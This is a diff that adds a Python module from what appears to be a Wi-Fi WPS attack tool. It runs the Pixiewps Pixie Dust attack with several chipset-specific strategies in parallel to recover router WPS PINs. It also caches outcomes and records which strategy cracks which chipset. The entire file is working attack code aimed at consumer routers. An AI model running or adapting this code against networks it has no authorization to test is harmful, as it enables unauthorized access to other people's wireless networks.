@@ -0,0 +1,458 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+import os
+import re
+import json
+import hashlib
+import time
+import shutil
+import signal
+import threading
+import subprocess
+from concurrent.futures import ThreadPoolExecutor, wait, FIRST_EXCEPTION
+
+from .utils import replaceFile
+
+# Seconds a single Pixiewps strategy may run
+PIXIEWPS_TIMEOUT = 60
+
+# Strategy name, whether the extended data is passed, --ecos-ver argument; in order of likelihood
+PIXIEWPS_STRATEGIES = (
+    ('Default', True, None),
+    ('Legacy', False, None),
+    ('Broadcom', True, '2'),
+    ('Ralink', True, '1'),
+    ('MediaTek', True, '3')
+)
+
+def parse_pixiewps_pin(output):
+    """Returns the PIN found in the Pixiewps output, or None"""
+    for line in output.splitlines():
+        if ('[+]' in line) and ('WPS pin' in line):
+            pin = line.split(':')[-1].strip()
+            if pin == '<empty>':
+                pin = "''"
+            return pin
+    return None
+
+
+class PixiewpsData:
+    """Class for storing Pixiewps attack data with enhanced chipset support"""
+    def __init__(self):
+        self.pke = b''
+        self.pkr = b''
+        self.e_hash1 = b''
+        self.e_hash2 = b''
+        self.authkey = b''
+        self.e_nonce = b''
+        self.r_nonce = b''  # Added for newer algorithms
+        self.e_bssid = ''  # Added for newer algorithms
+        self.e_snonce = b'' # Added for some Broadcom routers
+        self.r_snonce = b'' # Added for some Broadcom routers
+        self.e_manufacturer = ''  # Added for manufacturer specific attacks
+        self.e_model = ''        # Added for model specific attacks
+        self.e_version = ''      # Added for version specific attacks
+        self.key_version = 0x10  # Default WPS key version
+
+    def clear(self):
+        self.__init__()
+
+    def got_all(self):
+        """Check if we have all required data for basic Pixie Dust attack"""
+        return (self.pke and self.pkr and self.e_nonce and self.authkey
+                and self.e_hash1 and self.e_hash2)
+
+    def digest(self):
+        """SHA-256 of all the collected data, the Pixiewps cache key"""
+        data = (self.pke, self.pkr, self.e_hash1, self.e_hash2, self.authkey, self.e_nonce, self.r_nonce,
+                self.e_bssid, self.e_snonce, self.r_snonce, self.e_manufacturer, self.e_model, self.e_version,
+                self.key_version)
+        return hashlib.sha256(repr(data).encode()).hexdigest()
+
+    def got_extended(self):
+        """Check if we have extended data for advanced attacks"""
+        return (self.got_all() and self.r_nonce and self.e_bssid)
+
+    def get_pixie_cmd(self, full_range=False, advanced=True, capabilities=None):
+        """
+        Generate Pixiewps argv with support for multiple algorithms
+        @capabilities — PixiewpsCapabilities; options the installed pixiewps lacks are left out
+        """
+        supports = capabilities.supports if capabilities else lambda option: True
+        pixiecmd = [capabilities.binary if capabilities else "pixiewps"]
+
+        # Basic parameters
+        pixiecmd.extend([
+            "--pke", self.pke.hex(),
+            "--pkr", self.pkr.hex(),
+            "--e-hash1", self.e_hash1.hex(),
+            "--e-hash2", self.e_hash2.hex(),
+            "--authkey", self.authkey.hex(),
+            "--e-nonce", self.e_nonce.hex()
+        ])
+
+        # Extended parameters for newer algorithms
+        if advanced and self.got_extended():
+            if supports("--r-nonce"):
+                pixiecmd.extend(["--r-nonce", self.r_nonce.hex()])
+            # pixiewps 1.4 spells it --e-bssid
+            bssid_option = capabilities.option("--bssid", "--e-bssid") if capabilities else "--bssid"
+            if bssid_option:
+                pixiecmd.extend([bssid_option, self.e_bssid])
+
+        # Optional parameters for specific chipsets
+        if self.e_snonce and supports("--e-snonce"):
+            pixiecmd.extend(["--e-snonce", self.e_snonce.hex()])
+        if self.r_snonce and supports("--r-snonce"):
+            pixiecmd.extend(["--r-snonce", self.r_snonce.hex()])
+
+        # Version specific parameters
+        if self.key_version != 0x10 and supports("--wps-version"):
+            pixiecmd.extend(["--wps-version", str(self.key_version)])
+
+        # Manufacturer specific optimizations
+        if self.e_manufacturer and supports("--vendor"):
+            pixiecmd.extend(["--vendor", self.e_manufacturer])
+
+        # Force full range if requested
+        if full_range and supports("--force"):
+            pixiecmd.append("--force")
+
+        # Additional optimizations
+        if supports("--dh-small"):
+            pixiecmd.append("--dh-small")  # Use small DH keys when possible
+        if supports("--mode"):
+            pixiecmd.extend(["--mode", "3"])  # Try all known algorithms
+        if supports("--verbosity"):
+            pixiecmd.extend(["--verbosity", "3"])  # Increased verbosity for debugging
+
+        return pixiecmd
+
+
+class PixiewpsCapabilities:
+    """
+    Version and long options of the installed pixiewps. The help output is
+    parsed once and cached on disk until the binary changes
+    @cache_file — JSON file the probe result is kept in
+    """
+    def __init__(self, binary='pixiewps', cache_file=None):
+        self.binary = binary
+        self.path = shutil.which(binary)
+        self.version = None
+        self.options = None   # Set of long options; None if unknown, then every option is assumed to work
+        if not self.path:
+            return
+        stat = os.stat(self.path)
+        key = [self.path, stat.st_mtime_ns, stat.st_size]
+        if not self.__load(cache_file, key):
+            self.__probe()
+            if cache_file:
+                self.__save(cache_file, key)
+
+    @property
+    def installed(self):
+        return self.path is not None
+
+    def supports(self, option):
+        return self.options is None or option in self.options
+
+    def option(self, *names):
+        """Returns the first of the option spellings this pixiewps supports, or None"""
+        for name in names:
+            if self.supports(name):
+                return name
+        return None
+
+    def __run(self, *args):
+        try:
+            r = subprocess.run([self.path, *args], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
+                               encoding='utf-8', errors='replace', timeout=5)
+        except (OSError, subprocess.TimeoutExpired):
+            return ''
+        return r.stdout
+
+    def __probe(self):
+        usage = self.__run('--help')
+        options = set(re.findall(r'(?<![\w-])--[a-z0-9][a-z0-9-]*', usage))
+        # An unrecognized usage text must not disable every optional flag
+        self.options = options if '--pke' in options else None
+        match = re.search(r'[Pp]ixiewps\s+v?(\d+(?:\.\d+)+)', usage)
+        if not match and self.supports('--version'):
+            match = re.search(r'(\d+(?:\.\d+)+)', self.__run('--version'))
+        self.version = match.group(1) if match else None
+
+    def __load(self, cache_file, key):
+        try:
+            with open(cache_file, 'r') as file:
+                cache = json.load(file)
+        except (TypeError, OSError, ValueError):
+            return False
+        if cache.get('key') != key:
+            return False
+        self.version = cache['version']
+        self.options = set(cache['options']) if cache['options'] is not None else None
+        return True
+
+    def __save(self, cache_file, key):
+        replaceFile(cache_file, json.dumps({'key': key, 'version': self.version,
+                                            'options': sorted(self.options) if self.options is not None else None}))
+
+
+def build_strategies(data, capabilities, full_range=False):
+    """
+    Returns [(name, argv), …] of the strategies the installed pixiewps can run,
+    without strategies that would repeat an earlier command line
+    @data — PixiewpsData
+    """
+    strategies = []
+    seen = set()
+    for name, advanced, ecos_ver in PIXIEWPS_STRATEGIES:
+        if ecos_ver and not capabilities.supports('--ecos-ver'):
+            continue
+        argv = data.get_pixie_cmd(full_range, advanced, capabilities)
+        if ecos_ver:
+            argv += ['--ecos-ver', ecos_ver]
+        if tuple(argv) in seen:
+            continue
+        seen.add(tuple(argv))
+        strategies.append((name, argv))
+    return strategies
+
+
+class PixiewpsCache:
+    """
+    Content-addressed store of Pixiewps outcomes, one JSON file per entry named by its key.
+    A found PIN is stored under the digest of the Pixie Dust data and holds for any
+    strategy and pixiewps version; a strategy that failed is stored under the digest
+    of the data, the strategy and the pixiewps version
+    @directory — where the entries are kept
+    """
+    def __init__(self, directory):
+        self.directory = directory
+        os.makedirs(directory, exist_ok=True)
+
+    @staticmethod
+    def strategy_key(digest, name, argv, version):
+        # argv[0] is left out: the same pixiewps may be found at another path
+        return hashlib.sha256(json.dumps([digest, name, argv[1:], version]).encode()).hexdigest()
+
+    def __read(self, key):
+        try:
+            with open(os.path.join(self.directory, key), 'r') as file:
+                return json.load(file)
+        except (OSError, ValueError):
+            return None
+
+    def __write(self, key, entry):
+        path = os.path.join(self.directory, key)
+        replaceFile(path, json.dumps(entry))
+
+    def lookup(self, digest):
+        """Returns the cached entry {'pin', 'strategy', 'version'} of the data, or None"""
+        return self.__read(digest)
+
+    def hasFailed(self, digest, name, argv, version):
+        return self.__read(self.strategy_key(digest, name, argv, version)) is not None
+
+    def store(self, digest, strategies, result, version):
+        """
+        Records a Pixiewps run
+        @strategies — [(name, argv), …] that were run
+        @result — PixiewpsResult of the run
+        """
+        if result.pin is not None:
+            self.__write(digest, {'pin': result.pin, 'strategy': result.strategy, 'version': version})
+        failed = set(result.failed)
+        for name, argv in strategies:
+            if name in failed:
+                self.__write(self.strategy_key(digest, name, argv, version), {'pin': None, 'version': version})
+
+
+class StrategyStats:
+    """
+    Persisted table of which strategies found the PIN for which chipsets: wins and
+    completed runs of every strategy, kept for the exact chipset (M1 manufacturer,
+    model, WPS version and the OUI of the BSSID) and for the coarser manufacturer
+    and model, manufacturer and OUI keys that cover chipsets seen for the first time
+    @path — JSON file the table is kept in
+    @min_runs — failed runs after which a strategy that never worked for a chipset
+                with a known winner goes to the fallback phase
+    """
+    def __init__(self, path, min_runs=2):
+        self.path = path
+        self.min_runs = min_runs
+        self.lock = threading.Lock()
+        try:
+            with open(path, 'r') as file:
+                self.table = json.load(file)
+        except (OSError, ValueError):
+            self.table = {}
+
+    @staticmethod
+    def keys(data, bssid):
+        """Chipset keys from the most to the least specific"""
+        oui = 'oui:' + (bssid or '').replace(':', '').upper()[:6]
+        if not data.e_manufacturer:
+            return [oui]
+        return [
+            'chipset:{}|{}|{:#x}|{}'.format(data.e_manufacturer, data.e_model, data.key_version, oui[4:]),
+            'model:{}|{}'.format(data.e_manufacturer, data.e_model),
+            'vendor:' + data.e_manufacturer,
+            oui
+        ]
+
+    def order(self, strategies, data, bssid):
+        """
+        Splits [(name, argv), …] into the strategies to run first, the ones that found the
+        PIN for this chipset most often leading, and the fallback ones that never did
+        """
+        with self.lock:
+            stats = next((self.table[key] for key in self.keys(data, bssid) if key in self.table), {})
+        wins = lambda name: stats.get(name, (0, 0))[0]
+        if not any(wins(name) for name, _ in strategies):
+            return list(strategies), []
+        likely, fallback = [], []
+        for name, argv in strategies:
+            runs = stats.get(name, (0, 0))[1]
+            (fallback if not wins(name) and runs >= self.min_runs else likely).append((name, argv))
+        # sorted() is stable: the default order breaks ties
+        return sorted(likely, key=lambda strategy: -wins(strategy[0])), fallback
+
+    def record(self, data, bssid, result):
+        """Adds the strategies that completed in the PixiewpsResult and saves the table"""
+        outcomes = [(name, 0) for name in result.failed]
+        if result.strategy:
+            outcomes.append((result.strategy, 1))
+        if not outcomes:
+            return
+        with self.lock:
+            for key in self.keys(data, bssid):
+                stats = self.table.setdefault(key, {})
+                for name, won in outcomes:
+                    wins, runs = stats.get(name, (0, 0))
+                    stats[name] = [wins + won, runs + 1]
+            replaceFile(self.path, json.dumps(self.table, sort_keys=True))
+
+
+class PixiewpsResult:
+    """Outcome of a Pixiewps run"""
+    def __init__(self):
+        self.pin = None
+        self.strategy = None  # Name of the strategy that found the PIN
+        self.output = ''      # Pixiewps output of that strategy
+        self.wall_time = 0.0
+        self.timings = {}     # Strategy name → seconds it ran; cancelled strategies are absent
+        self.failed = []      # Strategies that ran to the end without finding the PIN
+
+
+class PixiewpsRunner:
+    """
+    Runs Pixiewps strategies in parallel; the first strategy that finds
+    the PIN kills the ones still running and the rest are not started
+    @workers — number of strategies run at once, the CPU count by default
+    @timeout — seconds a strategy may run
+    """
+    def __init__(self, workers=None, timeout=PIXIEWPS_TIMEOUT, print_debug=False):
+        self.workers = workers or os.cpu_count() or 1
+        self.timeout = timeout
+        self.print_debug = print_debug
+        self.lock = threading.Lock()
+        self.found = threading.Event()
+        self.cancelled = threading.Event()   # Set by cancel(): nothing more is started
+        self.running = set()
+        self.result = None
+
+    def run(self, strategies, fallback=()):
+        """
+        @strategies — [(name, argv), …] in order of likelihood
+        @fallback — strategies started only if none of the first ones finds the PIN
+        Returns PixiewpsResult
+        """
+        self.result = PixiewpsResult()
+        start = time.monotonic()
+        for phase in (strategies, fallback):
+            if not phase or self.result.pin is not None or self.cancelled.is_set():
+                continue
+            self.found.clear()
+            self.running.clear()
+            workers = max(1, min(self.workers, len(phase)))
+            executor = ThreadPoolExecutor(max_workers=workers)
+            futures = []
+            try:
+                for name, argv in phase:
+                    futures.append(executor.submit(self.__strategy, name, argv))
+                wait(futures, return_when=FIRST_EXCEPTION)
+                for future in futures:
+                    future.result()
+            finally:
+                # Also reached on Ctrl+C: nothing must outlive the run.
+                # shutdown(cancel_futures=True) would need Python 3.9
+                self.__cancel()
+                for future in futures:
+                    future.cancel()
+                executor.shutdown(wait=True)
+        self.result.wall_time = time.monotonic() - start
+        return self.result
+
+    def cancel(self):
+        """Kills the running strategies and keeps the others from starting; may be called from any thread"""
+        self.cancelled.set()
+        self.__cancel()
+
+    def __cancel(self):
+        with self.lock:
+            self.found.set()
+            for proc in self.running:
+                self.__kill(proc)
+
+    def __strategy(self, name, argv):
+        with self.lock:
+            if self.found.is_set() or self.cancelled.is_set():
+                return
+            start = time.monotonic()
+            try:
+                # A process group of its own, so killing it also kills whatever it has spawned
+                proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                        encoding='utf-8', errors='replace', start_new_session=True)
+            except OSError as e:
+                print('[-] {} strategy failed to start: {}'.format(name, e))
+                return
+            self.running.add(proc)
+        try:
+            stdout, stderr = proc.communicate(timeout=self.timeout)
+        except subprocess.TimeoutExpired:
+            self.__kill(proc)
+            proc.communicate()
+            print('[-] {} strategy timed out'.format(name))
+            return
+        finally:
+            with self.lock:
+                self.running.discard(proc)
+        if proc.returncode < 0 and self.found.is_set():
+            # Killed because another strategy has won
+            return
+        self.result.timings[name] = time.monotonic() - start
+        pin = parse_pixiewps_pin(stdout) if proc.returncode == 0 else None
+        if pin is None:
+            self.result.failed.append(name)
+            if self.print_debug:
+                print('[-] {} strategy failed:'.format(name))
+                print(stderr)
+            return
+        with self.lock:
+            if self.found.is_set():
+                return
+            self.found.set()
+            self.result.pin = pin
+            self.result.strategy = name
+            self.result.output = stdout
+            for other in self.running:
+                self.__kill(other)
+
+    @staticmethod
+    def __kill(proc):
+        try:
+            os.killpg(proc.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass